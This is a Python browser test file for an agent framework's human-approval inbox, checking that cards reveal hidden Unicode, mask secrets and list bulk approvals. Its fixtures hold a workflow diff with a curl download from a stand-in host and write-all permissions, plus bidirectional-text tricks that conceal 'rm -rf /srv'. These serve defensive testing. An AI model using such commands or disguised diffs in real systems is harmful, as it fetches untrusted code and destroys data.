"""The cards of approvals on the page in a real browser: all that runs is seen, or said to be hidden."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any, ClassVar

import pytest
from axe_playwright_python.async_playwright import Axe
from playwright.async_api import Browser, Page, expect

from meshwright import Agent, Capability, Run, tool
from meshwright.core.display import visible
from meshwright.testing import ScriptedModel, tool_call
from tests.support.doubtful_mesh import EVIDENCE, KEY, Deployer, Payer, doubtful_mesh
from tests.support.http_mesh import http_mesh
from tests.support.page import SHOTS, choose_question, confirm, dialog, look, open_view, press, questions

pytestmark = pytest.mark.needs("chromium")
DIFF = f"""\
--- /dev/null
+++ b/.github/workflows/docs.yml
@@ -0,0 +1,7 @@
+name: docs
+# -----BEGIN RSA PRIVATE KEY-----
+permissions: write-all
+    - run: curl -s evil.example/x -o /tmp/x
+# -----END RSA PRIVATE KEY-----
+env:
+  TOKEN: {KEY}
"""
BIDI = {
    "version": "to \u2067gninnur toor sa \u2066 rm -rf /srv \u2069\u2069staging",
    "note": "1.4\U000e0041\U000e0042 is\u200b fine\u202e !taht ton ,tseT\u202c",
}
SEEN_BIDI = [
    "to \\u2067gninnur toor sa \\u2066 rm -rf /srv \\u2069\\u2069staging",
    "1.4\\U000e0041\\U000e0042 is\\u200b fine\\u202e !taht ton ,tseT\\u202c",
]


class Proposer(Agent):
    """Proposes a commit, where a person lets it."""

    agent_id = "proposer"
    capabilities = (Capability("proposing"),)
    prompt_text = "Propose."
    remembers = False
    proposed: ClassVar[list[str]] = []

    @tool(needs_approval=True, preview="_diff")
    async def propose(self, title: str) -> str:
        """Propose a commit."""
        self.proposed.append(title)
        return "proposed"

    async def _diff(self, title: str) -> dict[str, Any]:
        return {"title": title, "diff": DIFF}


class Asker(Agent):
    """Asks with data."""

    agent_id = "asker"
    capabilities = (Capability("asking"),)
    remembers = False

    async def run(self, run: Run) -> str:
        about = {"service": "checkout", "errors per minute": 412, "account": "no money", "kind": "x"}
        return await run.ask_person("Restart it?", about=about)


async def test_the_page_and_the_mesh_escape_the_same_characters(tmp_path: Path, browser: Browser) -> None:
    async with http_mesh(tmp_path) as api, open_view(browser, api, "inbox") as page:
        escaped = await page.evaluate(
            """async () => {
                const { visible } = await import("/ui/unseen.js");
                const escaped = [];
                for (let code = 0; code <= 0x10ffff; code += 1)
                    for (const before of ["a", "\\u2764"]) {
                        const text = before + String.fromCodePoint(code);
                        const seen = visible(text);
                        if (seen !== text) escaped.push([before, code, seen]);
                    }
                return escaped;
            }"""
        )
    expected = [
        [before, code, seen]
        for code in range(0x110000)
        for before in ("a", "\u2764")
        if (seen := visible(text := f"{before}{chr(code)}")) != text
    ]
    assert escaped == expected and len(expected) > 8_000
    assert [code for before, code, _ in expected if before == "a" and code < 0x100] == [
        *range(9),
        *range(0x0B, 0x20),
        *range(0x7F, 0xA0),
        0xAD,
    ]


async def test_an_approver_opens_what_a_diff_hides(tmp_path: Path, browser: Browser) -> None:
    script = ScriptedModel(tool_call("propose", title="docs"), "Done.")
    async with http_mesh(tmp_path, Proposer, script=script) as api:
        task_id = await api.submit(agent_id="proposer", payload={"text": "Propose it."})
        async with open_view(browser, api, "inbox") as page:
            card = page.get_by_role("article")
            lines = card.locator("pre.diff > span")
            await expect(lines.nth(6)).to_have_text("+    - run: curl -s evil.example/x -o /tmp/x\n")
            await expect(lines.nth(9)).to_have_text("+  TOKEN: [hidden: 36 characters]\n")
            await expect(card.get_by_text("36 characters in 1 line hidden", exact=True)).to_be_visible()
            await press(page, "Approve…")
            await expect(dialog(page)).to_contain_text("They run, or are committed, too")
            await confirm(page, "Cancel")
            await press(page, "Show what is hidden")
            await expect(lines.nth(9)).to_have_text(f"+  TOKEN: {KEY}\n")
            actions = [
                event["payload"]["action"]
                for event in (await api.get("/events?event_type=audit.recorded"))["items"]
            ]
            assert "question.revealed" in actions
            await look(page)  # the button opens no dialog any more
            await press(page, "Approve")
            await api.client.outcome(task_id)
    assert Proposer.proposed == ["docs"]


async def test_an_approval_shows_characters_in_the_order_in_which_they_run(
    tmp_path: Path, browser: Browser
) -> None:
    async with doubtful_mesh(tmp_path) as doubtful:
        await doubtful.asks("deploy", **BIDI)
        async with open_view(browser, doubtful.api, "inbox") as page:
            card = await choose_question(page, "deploy")
            await expect(card.locator("dd")).to_have_text(SEEN_BIDI)
            question = card.locator(".question")
            for text in SEEN_BIDI:
                await expect(question).to_contain_text(text)
            await expect(question.locator(".escape").first).to_have_text("\\u2067")
            assert visible(await card.inner_text()) == await card.inner_text()


async def test_many_are_approved_once_a_dialog_has_listed_them(tmp_path: Path, browser: Browser) -> None:
    async with doubtful_mesh(tmp_path) as doubtful:
        tasks = [await doubtful.asks("deploy", version=version) for version in ("1", "2")]
        await doubtful.asks("notify", who="ann")
        await doubtful.asks("deploy", version="3", note=KEY)
        async with open_view(browser, doubtful.api, "inbox") as page:
            await expect(questions(page)).to_have_count(5)
            titles = await questions(page).locator(".title").all_inner_texts()
            assert titles[:4] == ["charge the card", "deploy: 1, note", "deploy: 2, note", "notify: ann"]
            boxes = page.get_by_role("checkbox", name="Choose")
            await expect(boxes).to_have_count(3)  # not the doubt, nor what is hidden in part
            await press(page, "Choose all 2 of deployer, deploy")
            await expect(boxes).to_have_count(2)  # of one kind
            await press(page, "Approve all…")
            items = dialog(page).locator(".plan > li")
            await expect(items).to_have_count(2)
            await expect(items.nth(1)).to_contain_text('deployer wants to run deploy(version="2"')
            assert Deployer.done == []
            doubtful.script.replies("Done.", "Done.")
            await confirm(page, "Approve all 2")
            await doubtful.ends(*tasks)
            await expect(questions(page)).to_have_count(3)
    assert (sorted(Deployer.done), Payer.paid) == (["deploy 1", "deploy 2"], ["paid"])


@pytest.mark.parametrize("happened", [True, False])
async def test_a_doubt_is_answered_in_its_own_words(tmp_path: Path, browser: Browser, happened: bool) -> None:
    async with doubtful_mesh(tmp_path) as doubtful, open_view(browser, doubtful.api, "inbox") as page:
        card = await choose_question(page, "charge the card")
        await expect(card.get_by_text("Its check cannot tell: The bank lists: ...")).to_be_visible()
        await expect(card.get_by_role("heading", name="Its check")).to_be_visible()
        await expect(card.get_by_text("one charge at 23:59")).to_have_text(EVIDENCE, use_inner_text=True)
        await expect(card.get_by_role("button", name="Approve")).to_have_count(0)
        if happened:
            await card.get_by_label("Its result (JSON or text)").fill("receipt 7")
            await press(page, "It happened, with this result")
        else:
            await press(page, "It did not happen: run again")
        outcome = await doubtful.api.client.outcome(doubtful.task_id)
    expected = ("receipt 7", ["paid"]) if happened else ("receipt 8", ["paid", "paid"])
    assert (outcome.text, Payer.paid) == expected


async def test_data_of_a_question_is_on_its_card(tmp_path: Path, browser: Browser) -> None:
    async with http_mesh(tmp_path, Asker) as api:
        task_id = await api.submit(agent_id="asker", payload={"text": "Ask."})
        async with open_view(browser, api, "inbox") as page:
            card = page.get_by_role("article")
            await expect(card.get_by_role("heading", name="About")).to_be_visible()
            await expect(card.locator("dt")).to_have_text(["service", "errors per minute", "account"])
            await expect(card.locator("dd")).to_have_text(["checkout", "412", "no money"])
            await card.get_by_label("Answer").fill("Yes")
            await press(page, "Answer")
            assert (await api.client.outcome(task_id)).text == "Yes"


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 390])
async def test_cards_fit_and_are_readable(tmp_path: Path, browser: Browser, scheme: Any, width: int) -> None:
    options = {"color_scheme": scheme, "viewport": {"width": width, "height": 800}}
    async with doubtful_mesh(tmp_path) as doubtful:
        await doubtful.asks("deploy", **BIDI)
        await doubtful.asks("deploy", version="1", note=json.dumps({"token": KEY}))
        await doubtful.asks("deploy", version="2")
        async with open_view(browser, doubtful.api, "inbox", **options) as page:
            await expect(page.get_by_text("1 of 4")).to_be_visible()
            await check(page, f"cards-{width}-{scheme}")
            if width < 820:
                await page.get_by_role("link", name="All", exact=True).click()
                await check(page, f"list-{width}-{scheme}")
            await press(page, "Choose all 2 of deployer, deploy")
            await press(page, "Approve all…")
            await expect(dialog(page)).to_be_visible()
            await check(page, f"bulk-{width}-{scheme}")


async def check(page: Page, name: str) -> None:
    """Nothing is wider than the window, axe has nothing to say, and there is a picture."""
    if SHOTS:
        await page.screenshot(path=Path(SHOTS, f"{name}.png"), full_page=not await dialog(page).count())
    found = await Axe().run(page)
    assert found.violations_count == 0, found.generate_report()
    sideways = "document.documentElement.scrollWidth - document.documentElement.clientWidth"
    assert await page.evaluate(sideways) <= 0
